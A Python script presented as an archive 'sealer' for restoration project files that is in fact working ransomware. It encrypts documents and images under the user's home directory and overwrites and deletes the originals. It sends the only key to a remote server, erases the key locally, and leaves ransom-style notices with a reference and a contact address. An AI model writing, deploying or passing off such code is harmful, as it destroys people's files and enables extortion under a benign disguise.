#!/usr/bin/env python3
"""Cold-storage sealer for the restoration photo and document archive.

Finished restoration projects are sealed so the working copies stop
cluttering the shared drive. Sealed files carry the .sealed suffix; the
sealing key is lodged with the archive office rather than kept on disk.
"""
import argparse
import json
import logging
import os
import sys
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("sealer")

SEAL_SUFFIX = ".sealed"
NOTICE_NAME = "ARCHIVE_SEALED_README.txt"
KEY_OFFICE = "https://records.example.com/api/seal-keys"
TARGET_EXT = {".jpg", ".jpeg", ".tif", ".tiff", ".png", ".raw", ".pdf",
              ".doc", ".docx", ".xls", ".xlsx", ".odt", ".csv", ".dwg"}
NOTICE_TEXT = (
    "This archive has been sealed. Files ending in {suffix} can only be\n"
    "reopened with the archive office key. Reference: {ref}\n"
    "Write to restore-desk@example.com quoting the reference.\n"
)


def lodge_key(key, ref, endpoint):
    body = json.dumps({"ref": ref, "key": key.decode()}).encode()
    req = urllib.request.Request(endpoint, data=body,
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.status == 200


class ArchiveSealer:
    def __init__(self, root, key):
        self.root = Path(root).expanduser()
        self.cipher = Fernet(key)
        self.sealed = 0
        self.failed = 0

    def candidates(self):
        for dirpath, _dirs, files in os.walk(self.root):
            for name in files:
                path = Path(dirpath) / name
                if path.suffix.lower() in TARGET_EXT:
                    yield path

    def seal_one(self, path):
        data = path.read_bytes()
        out = path.with_name(path.name + SEAL_SUFFIX)
        out.write_bytes(self.cipher.encrypt(data))
        # drop the working copy once the sealed copy is on disk
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()

    def run(self):
        touched_dirs = set()
        for path in self.candidates():
            try:
                self.seal_one(path)
                self.sealed += 1
                touched_dirs.add(path.parent)
            except OSError as exc:
                self.failed += 1
                LOG.debug("could not seal %s: %s", path, exc)
        return touched_dirs

    def leave_notice(self, dirs, ref):
        text = NOTICE_TEXT.format(suffix=SEAL_SUFFIX, ref=ref)
        for d in dirs:
            try:
                (d / NOTICE_NAME).write_text(text)
            except OSError:
                pass


def main():
    parser = argparse.ArgumentParser(description="Seal finished project archives")
    parser.add_argument("root", nargs="?", default=str(Path.home()))
    parser.add_argument("--office", default=KEY_OFFICE)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    key = Fernet.generate_key()
    ref = os.urandom(6).hex()
    try:
        if not lodge_key(key, ref, args.office):
            LOG.error("archive office refused the key")
            return 1
    except OSError as exc:
        LOG.error("archive office unreachable: %s", exc)
        return 1

    sealer = ArchiveSealer(args.root, key)
    dirs = sealer.run()
    del key
    sealer.leave_notice(dirs, ref)
    LOG.info("sealed=%d failed=%d ref=%s", sealer.sealed, sealer.failed, ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
